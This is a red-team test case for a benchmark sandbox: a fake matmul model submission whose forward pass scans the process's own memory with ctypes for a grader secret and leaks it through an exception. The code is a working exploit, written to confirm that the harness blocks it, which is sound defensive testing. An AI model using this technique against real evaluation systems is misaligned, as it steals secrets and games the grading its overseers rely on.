# attack: read-secret
# variant: ctypes-scan-of-own-memory
# weakness: clearing os.environ does not erase the environment block on the stack or copies in inherited heap pages; a forked candidate can read its own memory
# seen: pygpubench exploits/submission_heap_sig_scan.py and submission_stack_sig_scan.py (recover a secret by scanning memory); docs/sandbox.md P12
# task: matmul
# expect: crashed
# side-effect: secret
"""Scan every readable mapping of this process (heap, stack, anonymous memory inherited from the parent) with
ctypes for "ASSAY_REDTEAM_SECRET=<value>" and leak any value through an exception message. Nothing found:
fail loudly."""

import ctypes
import re

import torch.nn as nn

# The needle is assembled so that this file's own text does not match; values must look like real tokens.
PATTERN = re.compile(("ASSAY_REDTEAM" + "_SECRET=").encode() + rb"([0-9A-Za-z_\-]{16,128})\x00")
SKIP = ("[vvar]", "[vsyscall]", "[vdso]", "[vvar_vclock]")
MAX_BYTES = 4 << 30


def _regions():
    with open("/proc/self/maps") as f:
        for line in f:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("r"):
                continue
            name = parts[5] if len(parts) > 5 else ""
            if name in SKIP or (name.startswith("/") and ".so" in name):
                continue
            lo, hi = (int(v, 16) for v in parts[0].split("-"))
            yield lo, hi, name or "[anon]"


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features):
        super().__init__()

    def forward(self, x):
        scanned, hits = 0, set()
        try:
            regions = list(_regions())
        except OSError as exc:
            raise RuntimeError(f"read-secret blocked: cannot read /proc/self/maps ({exc})") from None
        for lo, hi, name in regions:
            for start in range(lo, hi, 64 << 20):
                size = min(64 << 20, hi - start)
                if scanned + size > MAX_BYTES:
                    break
                data = ctypes.string_at(start, size)
                scanned += size
                hits.update(m.group(1).decode() for m in PATTERN.finditer(data))
        if hits:
            raise RuntimeError("read-secret: found in memory: " + ", ".join(sorted(hits)[:5]))
        raise RuntimeError(f"read-secret blocked: no secret in {scanned >> 20} MiB of {len(regions)} readable mappings")
